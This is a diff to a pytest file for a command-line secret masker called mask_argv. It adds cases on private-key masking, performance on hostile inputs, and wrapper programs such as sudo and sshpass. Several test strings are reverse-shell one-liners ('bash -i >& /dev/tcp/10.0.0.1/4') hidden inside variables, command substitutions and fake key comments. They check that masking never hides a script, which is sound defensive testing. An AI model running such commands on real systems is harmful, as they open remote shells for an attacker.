@@ -226,7 +226,21 @@ def test_any_shell_text_can_be_masked(text: str) -> None:
 
 @pytest.mark.parametrize(
     "piece",
-    [b"a", b"-", b"eyJ", b"password", b"://", b"echo ", b"'", b'"', b"x:", b"sudo ", b"=\\"],
+    [
+        b"a",
+        b"-",
+        b"eyJ",
+        b"password",
+        b"://",
+        b"echo ",
+        b"'",
+        b'"',
+        b"x:",
+        b"sudo ",
+        b"=\\",
+        b"A\n",
+        b"-----BEGIN PRIVATE KEY----- ",
+    ],
 )
 def test_a_hostile_argument_costs_no_more_than_its_length(piece: bytes) -> None:
     argv = (b"sh", b"-c", b"password " + piece * (100_000 // len(piece)))
@@ -245,8 +259,48 @@ def test_a_hostile_argument_costs_no_more_than_its_length(piece: bytes) -> None:
         "bash -c ': https://a:b@c; bash -i >& /dev/tcp/10.0.0.1/4 0>&1'",
         "ruby -e 'token=1;`bash -i >& /dev/tcp/10.0.0.1/4 0>&1`'",
         "env TOKEN=x bash -c 'secret=1 bash -i >& /dev/tcp/10.0.0.1/4 0>&1'",
+        """bash -c 'TOKEN="bash -i >& /dev/tcp/10.0.0.1/4 0>&1"; eval $TOKEN'""",
+        """bash -c 'PASSWORD="$(bash -i >& /dev/tcp/10.0.0.1/4 0>&1)"'""",
+        """bash -c 'curl -H "Cookie: $(bash -i >& /dev/tcp/10.0.0.1/4 0>&1)"'""",
+        """bash -c 'mysql --password "$(bash -i >& /dev/tcp/10.0.0.1/4 0>&1)"'""",
+        """bash -c 'openssl x <<< "$(bash -i >& /dev/tcp/10.0.0.1/4 0>&1)"'""",
+        "bash -c '#-----BEGIN PRIVATE KEY-----\nbash -i >& /dev/tcp/10.0.0.1/4 0>&1'",
+        "bash -c '#-----BEGIN PRIVATE KEY-----\nbash -i >& /dev/tcp/10.0.0.1/4\n#-----END PRIVATE KEY-----'",
+        "ssh host 'TOKEN=x; bash -i >& /dev/tcp/10.0.0.1/4 0>&1'",
     ],
 )
 def test_a_word_that_looks_like_a_secret_does_not_hide_a_script(command: str) -> None:
     masked, _ = mask_argv(_argv(command))
     assert b">& /dev/tcp/10.0.0.1/4" in b" ".join(masked)
+
+
+@pytest.mark.parametrize(
+    "key",
+    [
+        "-----BEGIN PRIVATE KEY-----\n{0}\n-----END PRIVATE KEY-----",
+        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\n{0}\nAbc=\n"
+        "-----END RSA PRIVATE KEY-----",
+        "-----BEGIN PRIVATE KEY-----\\n{0}\\nAbc=\\n-----END PRIVATE KEY-----",
+        "-----BEGIN PRIVATE KEY-----\n{0}\n{0}",
+    ],
+)
+def test_the_lines_of_a_key_are_masked_whole_or_cut_off(key: str) -> None:
+    line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"
+    masked, _ = mask_argv((b"tool", b"--pem", key.format(line).encode()))
+    assert b"MIIE" not in b" ".join(masked)
+    assert b"Abc" not in b" ".join(masked)
+
+
+@pytest.mark.parametrize("word", [b"curl", b"mysql -px", b"sqlplus", b"openssl", b"a", b"-p"])
+def test_the_name_of_a_program_again_and_again_costs_no_more_than_its_length(word: bytes) -> None:
+    words = word.split() * (32_768 // (len(word) + 1))
+    for argv in ((b"sh", b"passwd", *words), (b"sh", b"-c", b": passwd " + b" ".join(words))):
+        began = time.process_time()
+        mask_argv(argv)
+        assert time.process_time() - began < 0.7
+
+
+def test_a_program_behind_its_wrappers_is_known_and_a_second_one_too() -> None:
+    argv = b"sudo env sshpass -p geheim docker login -p auch mysql -pdrei".split()
+    masked, _ = mask_argv(tuple(argv))
+    assert masked == tuple(b"sudo env sshpass -p *** docker login -p *** mysql -p***".split())
